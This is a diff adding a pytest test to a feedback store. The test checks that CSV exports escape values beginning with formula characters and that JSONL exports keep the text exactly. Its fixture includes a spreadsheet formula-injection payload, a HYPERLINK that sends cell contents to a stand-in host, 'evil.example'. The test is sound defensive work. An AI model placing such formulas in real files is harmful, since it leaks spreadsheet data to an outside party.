@@ -337,6 +337,37 @@ def test_export_csv(filled, tmp_path):
     assert store.export_csv(tmp_path / "p.csv", what="pairs") == 1
 
 
+def test_csv_exports_never_hold_a_live_spreadsheet_formula_and_jsonl_keeps_the_text(tmp_path):
+    """A reply, prompt, name or comment that starts with = + - @, a tab or a carriage return gets a leading ' in CSV
+    (a spreadsheet shows it as text), and a carriage return in a text never splits its row; numbers stay numbers;
+    JSON lines keep every text exactly."""
+    import csv
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
+    (tmp_path / "in.jsonl").write_text(json.dumps(dict(prompt="Hi", chosen="@SUM(1+1)", rejected="Hello.",
+                                                       margin=-0.5, model="\rm")) + "\n")
+    with FeedbackStore(tmp_path / "f.db") as store:
+        ids = store.add_responses([dict(prompt="+Give me a link", response=link, model="m", iteration=0),
+                                   dict(prompt="+Give me a link", response="-1 is less", model="m", iteration=0)])
+        store.record_pairwise(store.add_item(ids), "@me", "A", comment="\tSUM(1+1)")
+        store.import_jsonl(tmp_path / "in.jsonl")
+        store.export_csv(tmp_path / "p.csv", what="pairs")
+        store.export_csv(tmp_path / "j.csv")
+        store.export_jsonl(tmp_path / "p.jsonl")
+    mine, imported = csv.DictReader(open(tmp_path / "p.csv", newline=""))  # two rows: the \r splits none
+    assert (mine["prompt"], mine["chosen"], mine["rejected"], mine["annotator"]) == \
+        ("'+Give me a link", "'" + link, "'-1 is less", "'@me")
+    assert (imported["chosen"], imported["model"], imported["margin"]) == ("'@SUM(1+1)", "'\rm", "-0.5")
+    assert (mine["chosen_id"], mine["iteration"], mine["model"]) == ("1", "0", "m")  # numbers and plain text kept
+    judgment = next(csv.DictReader(open(tmp_path / "j.csv", newline="")))
+    assert (judgment["prompt"], judgment["annotator"], judgment["comment"]) == ("'+Give me a link", "'@me",
+                                                                                "'\tSUM(1+1)")
+    assert json.loads(judgment["responses"]) == [link, "-1 is less"]  # inside JSON (starts with [): exact
+    line = json.loads((tmp_path / "p.jsonl").read_text().splitlines()[0])
+    assert (line["prompt"], line["chosen"], line["rejected"], line["annotator"]) == \
+        ("+Give me a link", link, "-1 is less", "@me")
+
+
 def test_an_export_that_fails_halfway_leaves_the_previous_file_whole(filled, tmp_path, monkeypatch):
     """Exports are written whole or not at all: a crash while writing must not leave a shorter file that still
     reads as valid in place of the previous export."""
